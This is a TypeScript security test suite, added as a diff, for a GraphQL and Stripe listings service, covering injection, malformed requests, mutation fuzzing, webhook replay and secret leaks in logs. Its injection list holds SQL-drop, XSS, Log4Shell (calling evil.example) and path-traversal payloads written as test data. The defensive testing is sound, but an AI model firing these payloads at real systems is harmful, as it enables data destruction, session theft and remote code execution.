@@ -1,0 +1,262 @@
+import { randomBytes, randomUUID } from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import {
+  buildSchema,
+  getNamedType,
+  getNullableType,
+  isEnumType,
+  isInputObjectType,
+  isListType,
+  isNonNullType,
+  isScalarType,
+  isCompositeType,
+  type GraphQLInputType,
+} from 'graphql';
+import Stripe from 'stripe';
+import { projectRoot } from '../../lib/data-dir';
+import {
+  ChargeListingDocument,
+  CreateApiKeyDocument,
+  CreateListingDocument,
+  ListingDocument,
+  ListingsCountDocument,
+  ListingsPageDocument,
+  RegisterUserDocument,
+  TransactionDocument,
+  UpdateListingDocument,
+  UpdateUserDocument,
+  UserDocument,
+} from '../generated/graphql';
+import { dataOf } from '../helpers/graph-client';
+import { createListing, listingInput, registerUser, type TestUser } from '../helpers/fixtures';
+import { startTestStack, type TestStack } from '../helpers/stack';
+
+/**
+ * The security test suite (issue 6): injection strings, malformed requests, random inputs to every
+ * mutation, webhook replays, and a scan of every log line the run produced for the secrets it used.
+ * The figures it prints feed SECURITY.md.
+ */
+let stack: TestStack;
+let admin: TestUser;
+let ada: TestUser;
+const secretsUsed: string[] = [];
+const figures: Record<string, { tried: number; refusedAsExpected: number }> = {};
+const fuzzCodes: Record<string, number> = {};
+const count = (name: string, tried: number, refused: number) => {
+  const f = (figures[name] ??= { tried: 0, refusedAsExpected: 0 });
+  f.tried += tried;
+  f.refusedAsExpected += refused;
+};
+
+beforeAll(async () => {
+  stack = await startTestStack({ POSTING_FEES: '{"JOBS":0}', RATE_LIMIT_PER_IP: '0', RATE_LIMIT_PER_VIEWER: '0', CRM_FLUSH_INTERVAL_MS: '100000' });
+  admin = await registerUser(stack, 'Admin', ['user', 'admin']);
+  ada = await registerUser(stack, 'Ada');
+  secretsUsed.push(admin.token, ada.token, stack.config.JWT_SECRET, stack.config.INTERNAL_SECRET, stack.config.STRIPE_WEBHOOK_SECRET);
+});
+afterAll(async () => {
+  await stack?.stop();
+  // The figures SECURITY.md quotes, outside the work tree.
+  if (Object.keys(figures).length) fs.writeFileSync(path.join(os.tmpdir(), 'saypro-security-figures.json'), JSON.stringify({ figures, fuzzCodes }, null, 2) + '\n');
+});
+
+/** Internals that must never reach a client: stack frames, source paths, SQL, driver and Node error names. */
+const INTERNALS = /\bat \S+ \(|\.ts:\d+|\.js:\d+|node_modules|\/work\/|\bSELECT\b|\bINSERT INTO\b|\bsyntax error at\b|duplicate key|violates|ECONNREFUSED|TypeError|ReferenceError|DrizzleQueryError|stacktrace/i;
+
+export const INJECTIONS = [
+  "'; DROP TABLE listings.users; --",
+  "Robert'); DELETE FROM listings.listings WHERE ('1'='1",
+  "1' OR '1'='1' --",
+  '" OR ""="',
+  '{"$gt": ""}',
+  '{"$where": "sleep(1000)"}',
+  '<script>alert(document.cookie)</script>',
+  '<img src=x onerror=alert(1)>',
+  '${jndi:ldap://evil.example/a} {{7*7}}',
+  '../../../etc/passwd %s %n',
+  '100% _match_ \\ backslash',
+  'ünïcødé ✓ 🚀 ‮rtl',
+];
+
+describe('injection strings are data', () => {
+  it('are stored and returned verbatim in every text input, and change nothing else', async () => {
+    const before = dataOf(await stack.graph(ListingsCountDocument, {}, { token: admin.token })).listings.totalCount;
+    let tried = 0;
+    for (const text of INJECTIONS) {
+      // registerUser / updateUser: name
+      const user = dataOf(await stack.graph(RegisterUserDocument, { input: { name: text.slice(0, 100), email: `inj.${randomBytes(4).toString('hex')}@example.com` } })).registerUser;
+      expect(user.name).toBe(text.slice(0, 100).trim());
+      const token = stack.token(user.id);
+      const renamed = dataOf(await stack.graph(UpdateUserDocument, { id: user.id, input: { name: `${text} 2`.slice(0, 100) } }, { token })).updateUser;
+      expect(renamed.name).toBe(`${text} 2`.slice(0, 100).trim());
+      // createListing / updateListing: title, description, location
+      const created = dataOf(
+        await stack.graph(CreateListingDocument, { input: listingInput({ title: text, description: text, location: text, category: 'JOBS' }) }, { token }),
+      ).createListing;
+      expect([created.title, created.description, created.location]).toEqual([text.trim(), text.trim(), text.trim()]);
+      const read = dataOf(await stack.graph(ListingDocument, { id: created.id })).listing;
+      expect([read.title, read.description, read.location]).toEqual([text.trim(), text.trim(), text.trim()]);
+      const updated = dataOf(await stack.graph(UpdateListingDocument, { id: created.id, input: { title: `x ${text}`, description: `y ${text}` } }, { token })).updateListing;
+      expect([updated.title, updated.description]).toEqual([`x ${text}`.trim(), `y ${text}`.trim()]);
+      // search: matches only listings holding the text, never everything
+      const found = dataOf(await stack.graph(ListingsPageDocument, { filter: { search: `x ${text}`.slice(0, 100) }, first: 100 })).listings;
+      expect(found.edges.map((e) => e.node.id)).toEqual([created.id]);
+      // createApiKey: name
+      const key = dataOf(await stack.graph(CreateApiKeyDocument, { name: text.slice(0, 100), scopes: ['USERS_READ'] }, { token: admin.token })).createApiKey;
+      expect(key.apiKey.name).toBe(text.slice(0, 100).trim());
+      secretsUsed.push(key.secret, token);
+      tried += 8;
+    }
+    // nothing else changed: the tables are there and hold exactly what was added
+    const after = dataOf(await stack.graph(ListingsCountDocument, {}, { token: admin.token })).listings.totalCount;
+    expect(after).toBe(before + INJECTIONS.length);
+    expect(dataOf(await stack.graph(UserDocument, { id: ada.id }, { token: ada.token })).user.email).toBe(ada.email);
+    count('injection strings stored verbatim', tried, tried);
+  });
+});
+
+describe('malformed requests', () => {
+  const post = (body: string, contentType?: string) =>
+    fetch(stack.urls.gateway, { method: 'POST', headers: contentType ? { 'content-type': contentType } : {}, body });
+
+  it('get 400 for malformed JSON and wrong content types, with a code and no internals', async () => {
+    const cases: Array<[string, string | undefined]> = [
+      ['{"query": ', 'application/json'],
+      ['{"query": "{ viewer { id } }"', 'application/json'],
+      ['[1, 2', 'application/json'],
+      ['null', 'application/json'],
+      ['"just a string"', 'application/json'],
+      ['{"query": 42}', 'application/json'],
+      ['{"query": "{ viewer { id } }", "variables": [1]}', 'application/json'],
+      ['query={ viewer { id } }', 'application/x-www-form-urlencoded'],
+      ['{ viewer { id } }', 'text/plain'],
+      ['--x\r\nContent-Disposition: form-data; name="q"\r\n\r\n{}\r\n--x--', 'multipart/form-data; boundary=x'],
+      ['{"query": "{ viewer { id } }"}', undefined],
+      ['\u0000\u0001\u0002', 'application/json'],
+    ];
+    for (const [body, type] of cases) {
+      const res = await post(body, type);
+      const text = await res.text();
+      expect({ body, status: res.status }).toEqual({ body, status: 400 });
+      expect(text).not.toMatch(INTERNALS);
+      expect(JSON.parse(text).errors[0].extensions.code).toMatch(/^(BAD_REQUEST|GRAPHQL_PARSE_FAILED)$/);
+    }
+    count('malformed JSON and wrong content types', cases.length, cases.length);
+  });
+
+  it('REST endpoints refuse malformed JSON and non-object bodies with 400', async () => {
+    const url = new URL('/payments/charge', stack.urls.gateway);
+    const bodies = ['{', '[]', '"x"', 'null', '{"listing_id": 5}'];
+    for (const body of bodies) {
+      const res = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${ada.token}` }, body });
+      expect(res.status).toBe(400);
+      expect(await res.text()).not.toMatch(INTERNALS);
+    }
+    count('REST malformed bodies', bodies.length, bodies.length);
+  });
+});
+
+describe('random inputs to every mutation', () => {
+  const schema = buildSchema(fs.readFileSync(path.join(projectRoot(), 'schema/api.graphql'), 'utf8'));
+  const mutations = Object.values(schema.getMutationType()!.getFields());
+  let seed = 42;
+  const rand = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
+  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!;
+  const STRINGS = [
+    '', ' ', 'a', 'ok title', 'x'.repeat(121), 'y'.repeat(5000), '\u0000', 'nul\u0000inside', '\ud800', '🚀'.repeat(40), ...INJECTIONS,
+    randomUUID(), '00000000-0000-0000-0000-000000000000', 'pm_card_visa', 'pm_card_chargeDeclined', 'USD', 'usd', 'XXX', '-1', 'NaN', 'a@b', 'not-an-email',
+  ];
+  const INTS = [0, 1, -1, 100, 999_999_999, 2 ** 31 - 1, -(2 ** 31), 7];
+  const idsOf = () => [randomUUID(), 'not-a-uuid', '', ada.id, '1'.repeat(300)];
+
+  function value(type: GraphQLInputType, depth = 0): unknown {
+    if (!isNonNullType(type) && rand() < 0.15) return null;
+    const t = getNullableType(type) as GraphQLInputType;
+    if (isListType(t)) return Array.from({ length: Math.floor(rand() * 4) }, () => value(t.ofType, depth + 1));
+    if (isEnumType(t)) return pick(t.getValues()).value;
+    if (isInputObjectType(t)) {
+      const out: Record<string, unknown> = {};
+      for (const f of Object.values(t.getFields())) if (isNonNullType(f.type) || rand() < 0.7) out[f.name] = value(f.type, depth + 1);
+      return out;
+    }
+    if (isScalarType(t)) {
+      if (t.name === 'Int') return pick(INTS);
+      if (t.name === 'Boolean') return rand() < 0.5;
+      if (t.name === 'ID') return pick(idsOf());
+      return pick(STRINGS);
+    }
+    return null;
+  }
+
+  it('never answer 500 or show internals (a few hundred generated calls)', async () => {
+    const tokens = [admin.token, ada.token, undefined];
+    let tried = 0;
+    let clean = 0;
+    const codes: Record<string, number> = {};
+    for (const field of mutations) {
+      const defs = field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
+      const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
+      const selection = isCompositeType(getNamedType(field.type)) ? ' { __typename }' : '';
+      const query = `mutation Fuzz${defs ? `(${defs})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
+      for (let i = 0; i < 25; i++) {
+        const variables = Object.fromEntries(field.args.map((a) => [a.name, value(a.type)]));
+        const token = pick(tokens);
+        const res = await fetch(stack.urls.gateway, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
+          body: JSON.stringify({ query, variables }),
+        });
+        const text = await res.text();
+        tried++;
+        const body = JSON.parse(text) as { errors?: Array<{ extensions?: { code?: string } }> };
+        for (const e of body.errors ?? []) codes[e.extensions?.code ?? 'none'] = (codes[e.extensions?.code ?? 'none'] ?? 0) + 1;
+        const problem = res.status >= 500 || INTERNALS.test(text) || (body.errors ?? []).some((e) => !e.extensions?.code || e.extensions.code === 'INTERNAL_SERVER_ERROR');
+        if (problem) throw new Error(`${field.name} with ${JSON.stringify(variables).slice(0, 300)} → ${res.status} ${text.slice(0, 300)}`);
+        clean++;
+      }
+    }
+    expect(tried).toBeGreaterThanOrEqual(300);
+    count('generated inputs to every mutation (no 500, no internals)', tried, clean);
+    Object.assign(fuzzCodes, codes);
+  });
+});
+
+describe('webhooks', () => {
+  it('refuse a replayed Stripe event: the same signed delivery twice has one effect', async () => {
+    const listing = await createListing(stack, ada);
+    const { transactionId } = dataOf(
+      await stack.graph(ChargeListingDocument, { input: { listingId: listing.id, paymentMethodId: 'pm_card_visa', idempotencyKey: `sec-${randomUUID()}` } }, { token: ada.token }),
+    ).chargeListing;
+    const reference = dataOf(await stack.graph(TransactionDocument, { id: transactionId }, { token: ada.token })).transaction.providerReference!;
+    const payload = JSON.stringify({ id: `evt_replay_${randomUUID()}`, object: 'event', type: 'payment_intent.succeeded', data: { object: { id: reference, object: 'payment_intent' } } });
+    const signature = new Stripe('sk_test_emulator', { telemetry: false }).webhooks.generateTestHeaderString({ payload, secret: stack.config.STRIPE_WEBHOOK_SECRET });
+    const deliver = () =>
+      fetch(new URL('/webhooks/stripe', stack.urls.gateway), { method: 'POST', headers: { 'content-type': 'application/json', 'stripe-signature': signature }, body: payload }).then((r) =>
+        r.json(),
+      );
+    expect(await deliver()).toEqual({ received: true, outcome: 'processed' });
+    expect(await deliver()).toEqual({ received: true, outcome: 'duplicate' });
+    // the same body re-signed with a timestamp past the 5 minute tolerance is refused outright
+    const stale = new Stripe('sk_test_emulator', { telemetry: false }).webhooks.generateTestHeaderString({
+      payload,
+      secret: stack.config.STRIPE_WEBHOOK_SECRET,
+      timestamp: Math.floor(Date.now() / 1000) - 301,
+    });
+    const res = await fetch(new URL('/webhooks/stripe', stack.urls.gateway), { method: 'POST', headers: { 'stripe-signature': stale }, body: payload });
+    expect(res.status).toBe(400);
+    count('webhook replays (duplicate and stale)', 2, 2);
+  });
+});
+
+describe('logs', () => {
+  it('hold none of the tokens, API keys and secrets this run used', () => {
+    const logs = JSON.stringify(stack.logs);
+    expect(stack.logs.length).toBeGreaterThan(100);
+    const leaked = secretsUsed.filter((s) => logs.includes(s));
+    expect(leaked).toEqual([]);
+    expect(logs).not.toMatch(/sp_test_[A-Za-z0-9_-]{43}|whsec_[0-9a-f]{16}|eyJ[A-Za-z0-9_-]+\.eyJ/);
+    count('secrets searched for in the logs', secretsUsed.length, secretsUsed.length - leaked.length);
+  });
+});
